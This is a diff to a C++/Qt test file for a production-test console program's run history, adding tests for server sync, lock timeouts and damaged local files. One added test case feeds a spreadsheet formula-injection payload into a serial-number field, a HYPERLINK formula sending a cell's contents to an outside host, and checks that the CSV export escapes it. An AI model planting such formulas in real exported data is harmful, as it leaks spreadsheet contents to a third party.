@@ -10,6 +10,7 @@
 #include "HistoryPlace.h"
 #include "HistoryRuns.h"
 #include "HistoryWindow.h"
+#include "PgServer.h"
 #include "Program.h"
 #include "ReportHtml.h"
 #include "ReportWindow.h"
@@ -23,16 +24,23 @@
 #include <QTableWidget>
 #include <QtTest>
 
+#include <csignal>
+
 namespace {
 
 // The console program with its data and settings in `home`, never the user's, and days in UTC.
-Run cli(const QTemporaryDir &home, const QStringList &arguments)
+QProcessEnvironment cliEnvironment(const QTemporaryDir &home)
 {
     QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
     env.insert(QStringLiteral("XDG_DATA_HOME"), home.filePath(QStringLiteral("data")));
     env.insert(QStringLiteral("XDG_CONFIG_HOME"), home.filePath(QStringLiteral("config")));
     env.insert(QStringLiteral("TZ"), QStringLiteral("UTC"));
-    return runProgram(QStringLiteral(RZM530_CLI_PATH), arguments, env);
+    return env;
+}
+
+Run cli(const QTemporaryDir &home, const QStringList &arguments)
+{
+    return runProgram(QStringLiteral(RZM530_CLI_PATH), arguments, cliEnvironment(home));
 }
 
 // Where --help says the runs are kept.
@@ -93,6 +101,9 @@ const struct {
      "\"SN \"\"7\"\", rev B\",Ann,bench 2,FAIL,relay 6 does not switch on"},
     {"no port", {}, {"--port", "7", "--serial", "X"}, 2, "X,,%1,ERROR,"},
     {"no history", {}, {"--no-history"}, 0, ""},
+    {"formulas", {}, {"--serial", "=HYPERLINK(\"http://x/?\"&B2,\"SN\")", "--operator", "@A",
+                      "--station", "-1"},
+     0, "\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"SN\"\")\",'@A,'-1,PASS,"},
 };
 
 const QString Yield = "day,runs,pass,fail,error,aborted,first_pass_yield,final_yield\n";
@@ -126,11 +137,177 @@ const struct {
     {"self-test", "--self-test --port 7", "cannot open COM 7"},
 };
 
+// The server a run is kept for is stopped mid-upload (its backend waits on a lock, then gets
+// SIGSTOP), or only locked; `seconds` is the most the program may take.
+const struct {
+    const char *name, *arguments;
+    bool stopped, interrupted;
+    int exitCode;
+    const char *says;
+    int seconds;
+} BoundedCases[] = {
+    {"self-test, stopped", "--self-test --port 7", true, false, 2, "did not answer within 3 s", 5},
+    {"self-test, Ctrl+C", "--self-test --port 7", true, true, 130, "interrupted by a signal", 2},
+    {"sync, stopped", "--sync", true, false, 2, "did not answer for 6 s", 8},
+    {"sync, locked", "--sync", false, false, 3, "lock timeout", 5},
+};
+
+// The local file made unusable (not a database); the server up, or not reachable.
+const struct {
+    const char *name, *arguments;
+    bool serverUp;
+    int exitCode;
+    const char *says;
+} UnkeptCases[] = {
+    {"the server takes it", "--self-test", true, 0, "it goes to the history server alone"},
+    {"neither takes it", "--self-test", false, 2, "the run is not in the history: neither"},
+    {"sync", "--sync", true, 4, "exit 4: cannot open the local file"},
+};
+
 } // namespace
 
 class KeptRunsTest : public QObject {
     Q_OBJECT
+    PgServer pg;
+
+    static int serverRuns(const QString &url)
+    {
+        const auto db = HistoryDb::openServer(*ServerUrl::parse(url, nullptr), nullptr);
+        return db ? db->count({}) : -1;
+    }
+
 private slots:
+    void initTestCase() { pg.find(); }
+
+    // Two runs wait for a shared server that is down: a run for another server sends only
+    // itself there, and the shared server gets both once it is back.
+    void eachRunGoesToItsOwnServer()
+    {
+        QTemporaryDir home;
+        const QString shared = pg.freshDatabase("h_shared"), scratch = pg.freshDatabase("h_scratch");
+        QVERIFY(pg.run("postgres", {"DROP DATABASE h_shared"}));
+        for (const QString &db : {shared, shared, scratch})
+            QCOMPARE(cli(home, {"--self-test", "--port", "7", "--db", db}).exitCode, 2);
+        QCOMPARE(cli(home, {"--sync", "--db", scratch}).exitCode, 0);
+        QCOMPARE(serverRuns(scratch), 1);
+        QVERIFY(pg.run("postgres", {"CREATE DATABASE h_shared"}));
+        QVERIFY(cli(home, {"--sync", "--db", shared}).err.contains("2 runs uploaded, 0 waiting"));
+        QCOMPARE(serverRuns(shared), 2);
+    }
+
+    void serverWaitsAreBounded_data() { addCaseRows(BoundedCases); }
+    void serverWaitsAreBounded()
+    {
+        const auto &[name, arguments, stopped, interrupted, exitCode, says, seconds] =
+            fetchCase(BoundedCases);
+        QTemporaryDir home;
+        const QString url = pg.freshDatabase("h_bounded"), key = ServerUrl::parse(url, nullptr)->shown();
+        QVERIFY(HistoryDb::openServer(*ServerUrl::parse(url, nullptr), nullptr)); // its tables
+        if (QString(arguments) == "--sync")
+            QVERIFY(HistoryDb::openLocal(historyFile(home), nullptr)
+                        ->store(historyRun("w1", "SN", line::WallTime{}), nullptr, key));
+        QSqlDatabase locker = pg.owner("locker", "h_bounded");
+        QSqlQuery query(locker);
+        QVERIFY(locker.open() && query.exec("BEGIN") &&
+                query.exec("LOCK TABLE runs IN ACCESS EXCLUSIVE MODE"));
+        QProcess program;
+        QElapsedTimer took;
+        took.start();
+        program.setProcessEnvironment(cliEnvironment(home));
+        program.start(RZM530_CLI_PATH, words(arguments) + QStringList{"--db", url});
+        int backend = 0;
+        while (stopped && !backend && took.elapsed() < 3000)
+            if (query.exec("SELECT pid FROM pg_locks WHERE NOT granted") &&
+                query.next())
+                backend = ::kill(query.value(0).toInt(), SIGSTOP) == 0 ? query.value(0).toInt() : 0;
+        QVERIFY(!stopped || backend);
+        if (interrupted) {
+            QTest::qWait(300);
+            program.terminate();
+        }
+        const bool ended = program.waitForFinished(20000);
+        const qint64 elapsed = took.elapsed();
+        if (backend)
+            ::kill(backend, SIGCONT);
+        QVERIFY(ended);
+        QCOMPARE(program.exitCode(), exitCode);
+        QVERIFY2(elapsed < seconds * 1000, qPrintable(QString::number(elapsed)));
+        const QString err = QString::fromLocal8Bit(program.readAllStandardError());
+        QVERIFY2(err.contains(says), qPrintable(err));
+        QCOMPARE(HistoryDb::openLocal(historyFile(home), nullptr)->waitingCount(key, false), 1);
+    }
+
+    // A run the local file cannot take goes to the server; one neither takes is said, and its
+    // verdict still given.
+    void aRunTheLocalFileCannotTake_data() { addCaseRows(UnkeptCases); }
+    void aRunTheLocalFileCannotTake()
+    {
+        const auto &[name, arguments, serverUp, exitCode, says] = fetchCase(UnkeptCases);
+        QTemporaryDir home;
+        const QString url = serverUp ? pg.freshDatabase("h_unkept") : Server;
+        QVERIFY(QDir().mkpath(QFileInfo(historyFile(home)).path()));
+        QFile file(historyFile(home));
+        QVERIFY(file.open(QIODevice::WriteOnly) && file.write(QByteArray(8192, 'x')) == 8192);
+        file.close();
+        SimProcess sim;
+        QVERIFY(sim.ready());
+        const Run run = cli(home, words(arguments) + QStringList{"--db", url});
+        QCOMPARE(run.exitCode, exitCode);
+        QVERIFY2(run.err.contains(says), qPrintable(run.err));
+        QVERIFY(!QString(arguments).startsWith("--self") || run.out.contains("\nPASS\n"));
+        if (serverUp)
+            QCOMPARE(serverRuns(url), exitCode == 0 ? 1 : 0);
+    }
+
+    // On a file damaged in the middle, reads say so and --sync sends every run it can read.
+    void aDamagedFile()
+    {
+        QTemporaryDir home;
+        const QString url = pg.freshDatabase("h_damaged"), key = ServerUrl::parse(url, nullptr)->shown();
+        const QString path = historyFile(home);
+        {
+            const auto db = HistoryDb::openLocal(path, nullptr);
+            for (int n = 0; n < 300; ++n)
+                QVERIFY(db->store(historyRun(std::to_string(1000 + n), "SN",
+                                             utc("2026-03-02T09:00:00Z") + std::chrono::minutes(n)),
+                                  nullptr, key));
+        }
+        // Garbage over the middle page of the runs and of the index a yield reads.
+        std::vector<qint64> pages;
+        {
+            QSqlDatabase sqlite = QSqlDatabase::addDatabase("QSQLITE", "damage");
+            sqlite.setDatabaseName(path);
+            QSqlQuery query(sqlite);
+            for (const QString name : {"runs", "runs_started"}) {
+                std::vector<qint64> leaves;
+                QVERIFY(sqlite.open() && query.exec("SELECT pageno FROM dbstat WHERE name = '" +
+                                                    name + "' AND pagetype = 'leaf'"));
+                while (query.next())
+                    leaves.push_back(query.value(0).toLongLong());
+                pages.push_back(leaves.at(leaves.size() / 2));
+            }
+        }
+        QSqlDatabase::removeDatabase("damage");
+        QFile file(path);
+        QVERIFY(file.open(QIODevice::ReadWrite));
+        for (const qint64 page : pages)
+            QVERIFY(file.seek((page - 1) * 4096) && file.write(QByteArray(4096, char(0xA5))) > 0);
+        file.close();
+        for (const char *read : {"--history", "--yield"}) {
+            const Run run = cli(home, {read});
+            QCOMPARE(run.exitCode, 2);
+            QVERIFY2(run.err.contains(path) && !run.err.contains("QSql") && !run.err.contains("Unable"),
+                     qPrintable(run.err));
+        }
+        const Run sync = cli(home, {"--sync", "--db", url});
+        QCOMPARE(sync.exitCode, 5);
+        const std::vector<QString> left = HistoryDb::openLocal(path, nullptr)->waitingIds(key, false);
+        QVERIFY(!left.empty());
+        for (const QString &id : left)
+            QVERIFY2(sync.err.contains(id), qPrintable(sync.err));
+        QCOMPARE(serverRuns(url), 300 - int(left.size()));
+    }
+
     // Each run leaves one row whatever its outcome, and its record makes its report again as
     // it was first made.
     void everyConsoleRunIsKept_data() { addCaseRows(KeptCases); }
@@ -188,7 +365,7 @@ private slots:
     {
         const auto &[name, arguments, says] = fetchCase(UnreachableCases);
         QTemporaryDir home;
-        QCOMPARE(cli(home, {"--self-test", "--port", "7"}).exitCode, 2); // one run waits
+        QCOMPARE(cli(home, {"--self-test", "--port", "7", "--db", Server}).exitCode, 2);
         const Run run = cli(home, words(arguments) + QStringList{"--db", Server});
         QCOMPARE(run.exitCode, 2);
         QVERIFY2(run.err.contains(says), qPrintable(run.err));
